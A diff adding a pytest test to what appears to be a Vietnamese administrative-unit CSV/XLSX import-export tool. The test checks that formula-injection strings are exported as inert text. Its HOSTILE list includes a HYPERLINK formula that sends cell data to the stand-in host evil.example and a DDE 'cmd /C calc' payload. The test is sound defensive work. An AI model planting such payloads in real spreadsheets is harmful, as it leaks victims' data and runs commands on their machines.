@@ -163,3 +163,39 @@ def test_the_cli_exports_and_imports_all_or_nothing(database_url, tmp_path):
     bad = run("units", "import", "bad.csv", cwd=tmp_path, **env)
     assert bad.returncode == 1 and "Dòng 2, cột valid_from" in bad.stderr and "Row 2, column valid_from" in bad.stderr
     assert with_db(database_url, lambda: Unit.select().where(Unit.code == "N1").count()) == 0
+
+
+# -- formula injection (issue 12, item 10) ---------------------------------------------------------------
+
+# Unit names are stored on one line, so tab and CR (also formula triggers) are in test_export_safety.
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=2+5+cmd|' /C calc'!A0", "+1+1",
+           "-2+3", "@SUM(1+1)"]
+
+
+def test_hostile_unit_names_go_out_as_text_in_csv_and_xlsx_and_come_back_unchanged(db_session):
+    import csv
+    import zipfile
+
+    province = Unit.create(code="44", name="Tỉnh Quảng Trị", kind="province")
+    for n, name in enumerate(HOSTILE):
+        Unit.create(code=f"X{n}", name=name, kind="commune", parent=province)
+    before = snapshot()
+    rows = unit_io.export_rows()
+    # CSV: each hostile name starts with a quote, whatever follows the "=" (a digit included).
+    text = unit_io.to_csv(rows).decode("utf-8-sig")
+    names = [row[1] for row in csv.reader(io.StringIO(text))][1:]
+    assert sorted(names) == sorted(["Tỉnh Quảng Trị"] + ["'" + name for name in HOSTILE])
+    # Excel: no formula anywhere in the sheet; every name is a string cell equal to the name.
+    content = unit_io.to_xlsx(rows)
+    with zipfile.ZipFile(io.BytesIO(content)) as package:
+        sheet = package.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    cells = {row[1].value: row[1] for row in book.active.iter_rows(min_row=2)}
+    assert set(cells) == set(HOSTILE) | {"Tỉnh Quảng Trị"}
+    assert all(cells[name].data_type == "s" for name in HOSTILE)
+    # Read back, both files change nothing.
+    for fmt, data in (("csv", unit_io.to_csv(rows)), ("xlsx", content)):
+        plan = unit_io.parse(data, f"units.{fmt}")
+        assert plan.errors == [] and plan.counts()["unchanged"] == len(HOSTILE) + 1, fmt
+    assert snapshot() == before
